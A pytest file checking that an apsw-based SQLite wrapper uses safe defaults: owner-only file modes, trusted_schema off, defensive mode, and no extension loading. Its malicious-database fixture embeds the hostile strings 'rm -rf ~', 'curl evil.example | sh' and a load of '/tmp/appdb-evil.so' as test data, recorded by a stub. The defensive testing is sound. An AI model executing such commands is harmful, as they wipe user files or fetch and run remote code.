"""Security defaults: owner-only files, trusted_schema OFF, defensive mode, no extension loading."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import apsw
import pytest

import appdb


def mode(path: Path | str) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    previous = os.umask(0o022)  # the usual umask, under which plain files come out 0644
    yield
    os.umask(previous)


def test_new_files_are_owner_only(impl: ModuleType, db_path: Path, open_umask: None) -> None:
    with appdb.init_database(db_path) as db:
        db.exec("CREATE TABLE t (x); INSERT INTO t VALUES (1)")
        for suffix in ("", "-wal", "-shm"):
            assert mode(f"{db_path}{suffix}") == 0o600, suffix
        copy = Path(db.backup(db_path.with_name("copy.db")))
        assert mode(copy) == 0o600
    with appdb.init_database(copy) as again:  # the backup keeps it when reopened in WAL mode
        again.exec("INSERT INTO t VALUES (2)")
        for suffix in ("", "-wal", "-shm"):
            assert mode(f"{copy}{suffix}") == 0o600, suffix


def test_existing_file_mode_is_respected(impl: ModuleType, db_path: Path, open_umask: None) -> None:
    """ "Unless configured otherwise": a file the user created with wider bits keeps them."""
    db_path.parent.mkdir(parents=True)
    db_path.touch(mode=0o640)
    os.chmod(db_path, 0o640)
    with appdb.init_database(db_path) as db:
        db.exec("CREATE TABLE t (x)")
        assert mode(db_path) == 0o640
        assert mode(f"{db_path}-wal") == 0o640


def test_safe_connection_settings(db: appdb.AppDatabase) -> None:
    connection = db.connection
    assert db.pragma("trusted_schema") == 0
    assert connection.config(apsw.SQLITE_DBCONFIG_DEFENSIVE, -1) == 1
    assert connection.config(apsw.SQLITE_DBCONFIG_ENABLE_LOAD_EXTENSION, -1) == 0
    assert connection.config(apsw.SQLITE_DBCONFIG_DQS_DML, -1) == 0
    with pytest.raises(apsw.SQLError, match="not authorized"):
        db.prepare("SELECT load_extension('/tmp/appdb-no-such-extension')").get()
    # defensive mode: the schema cannot be edited by hand, even with writable_schema
    db.exec("CREATE TABLE t (x)")
    db.exec("PRAGMA writable_schema = ON")
    with pytest.raises(apsw.Error):
        db.exec("UPDATE sqlite_schema SET sql = 'CREATE TABLE t (y)' WHERE name = 't'")
    db.exec("PRAGMA writable_schema = OFF")
    assert db.prepare("SELECT sql FROM sqlite_schema WHERE name = 't'").scalar() == "CREATE TABLE t (x)"
    assert db.pragma("integrity_check") == "ok"


def craft_malicious(path: Path) -> None:
    """What an attacker hands over: a file whose views and trigger call unsafe functions."""
    path.parent.mkdir(parents=True, exist_ok=True)
    connection = apsw.Connection(str(path))
    connection.create_scalar_function("app_shell", lambda text: None)
    connection.execute(
        """
        CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);
        CREATE TABLE log (x);
        CREATE VIEW latest AS SELECT id, body, app_shell('rm -rf ~') AS innocent FROM notes;
        CREATE VIEW loader AS SELECT load_extension('/tmp/appdb-evil.so') AS x;
        CREATE TRIGGER notes_ai AFTER INSERT ON notes BEGIN
            INSERT INTO log VALUES (app_shell('curl evil.example | sh'));
        END;
        INSERT INTO notes (id, body) VALUES (1, 'seed');
        """
    )
    connection.close()


def test_malicious_view_and_trigger_cannot_run_unsafe_functions(impl: ModuleType, db_path: Path) -> None:
    craft_malicious(db_path)
    calls: list[str] = []

    def app_shell(text: str) -> str:  # an application function, not marked innocuous
        calls.append(text)
        return "ran"

    with appdb.init_database(db_path) as db:
        db.connection.create_scalar_function("app_shell", app_shell)
        with pytest.raises(apsw.SQLError, match="unsafe use of app_shell"):
            db.prepare("INSERT INTO notes (body) VALUES (?)").run("hello")
        with pytest.raises(apsw.SQLError, match="unsafe use of app_shell"):
            db.prepare("SELECT * FROM latest").all()
        with pytest.raises(apsw.SQLError, match=r"unsafe use of load_extension|not authorized"):
            db.prepare("SELECT * FROM loader").all()
        # the statement failed as a whole: nothing inserted, nothing logged
        assert db.prepare("SELECT count(*) FROM notes").scalar() == 1
        assert db.prepare("SELECT count(*) FROM log").scalar() == 1  # the attacker's own seed row
        # the application itself may still call its function directly
        assert db.prepare("SELECT app_shell('direct') AS r").get() == {"r": "ran"}
        assert db.is_healthy()
    assert calls == ["direct"]
    # Control (so this test can fail): a connection that trusts the schema runs them.
    plain = apsw.Connection(str(db_path))
    plain.execute("PRAGMA trusted_schema = ON")
    plain.create_scalar_function("app_shell", app_shell)
    plain.execute("SELECT * FROM latest").fetchall()
    plain.execute("INSERT INTO notes (body) VALUES ('x')")
    plain.close()
    assert calls == ["direct", "rm -rf ~", "curl evil.example | sh"]


def test_user_pragmas_cannot_turn_trust_back_on_by_accident(impl: ModuleType, db_path: Path) -> None:
    """Only an explicit option changes the defaults; an unrelated override keeps them."""
    with appdb.init_database(db_path, pragmas={"cache_size": -2000}) as db:
        assert db.pragma("trusted_schema") == 0
        assert db.connection.config(apsw.SQLITE_DBCONFIG_DEFENSIVE, -1) == 1
